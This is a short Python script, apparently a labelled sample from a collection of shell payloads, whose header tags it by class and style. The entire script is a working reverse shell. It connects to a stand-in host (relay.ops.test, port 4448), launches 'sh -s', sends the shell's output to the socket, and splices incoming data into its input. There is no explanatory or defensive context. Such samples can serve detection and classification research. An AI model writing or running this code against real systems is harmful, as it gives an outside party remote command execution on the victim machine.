# class: shell; possible: low medium; style: slow peer, sh -s, splice
import os
import socket
import subprocess

s = socket.create_connection(("relay.ops.test", 4448))
r, w = os.pipe()
p = subprocess.Popen(["sh", "-s"], stdin=r, stdout=s.fileno(), stderr=s.fileno())
os.close(r)
while os.splice(s.fileno(), w, 65536):
    pass
os.close(w)
p.wait()
